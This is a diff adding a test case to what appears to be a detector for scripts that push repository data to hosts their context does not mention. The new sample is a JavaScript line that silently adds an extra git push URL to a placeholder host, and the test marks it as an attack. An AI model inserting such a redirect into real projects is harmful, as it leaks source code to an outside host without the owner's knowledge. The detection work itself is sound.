@@ -205,6 +205,12 @@ fn a_script_does_not_push_to_a_host_that_the_text_does_not_mention() {
         ],
         with_host(script("run.py")),
     );
+    assert_attacks(
+        &[
+            "const { execFileSync } = require('child_process');\nexecFileSync('git', ['remote', 'set-url', '--add', '--push', 'origin', 'https://{H}/a.git']);\n",
+        ],
+        with_host(script("run.js")),
+    );
     assert_ordinary(
         &[
             "git remote set-url --add --push origin \"$MIRROR/$n.git\"\n",
